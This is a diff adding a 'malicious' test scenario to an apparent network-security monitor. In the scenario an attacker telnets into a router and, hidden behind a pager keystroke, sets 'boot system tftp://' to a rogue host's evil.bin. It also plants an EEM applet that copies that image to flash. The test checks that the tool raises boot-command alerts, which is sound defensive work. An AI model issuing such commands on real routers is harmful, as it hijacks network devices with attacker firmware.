@@ -6,6 +6,7 @@ from bootwarden.scenarios.bw07_loaders import console
 from bootwarden.scenarios.model import Expect, Notice, scenario
 from bootwarden.scenarios.sites import ATTACKER, BOOT_SERVER, HQ, OUTSIDE, ROGUE
 from bootwarden.traffic import syslog
+from bootwarden.traffic.telnet import Telnet
 from bootwarden.traffic.wire import Wire
 
 OTHERS_LOAD, OTHERS_SEND = 1542007001, 1542007002
@@ -169,3 +170,27 @@ def bw07_told_of_everyday_work(wire: Wire) -> None:
         (153, "R1(config-archive)#", "path flash:backup"),
     ):
         console(wire, last, prompt, (line, ""))
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    raises=[("BW07", 0, ATTACKER, "10.0.1.171"), ("BW07", 1, ATTACKER, "10.0.1.172")],
+    site=HQ,
+    with_site=Expect(
+        (
+            Notice("Boot_Command", "10.0.1.171", ROGUE, "evil.bin"),
+            Notice("Boot_Command", "10.0.1.172", ROGUE, "evil.bin"),
+        )
+    ),
+)
+def bw07_behind_a_key_and_in_a_script(wire: Wire) -> None:
+    """A pager's `q`, which needs no Enter, comes right before a boot line; a copy is put into an EEM applet."""
+    session = Telnet(wire, ATTACKER, "10.0.1.171", prompt="R1(config)#")
+    session.login()
+    session.typed("do show run", " --More-- ", prompt="")
+    session.keys("q", "\b\b\b        \r\nR1(config)#")
+    session.typed(f"boot system tftp://{ROGUE}/evil.bin")
+    session.close()
+    line = f'action 1.0 cli command "copy tftp://{ROGUE}/evil.bin flash:"'
+    console(wire, 172, "R1(config-applet)#", (line, ""))
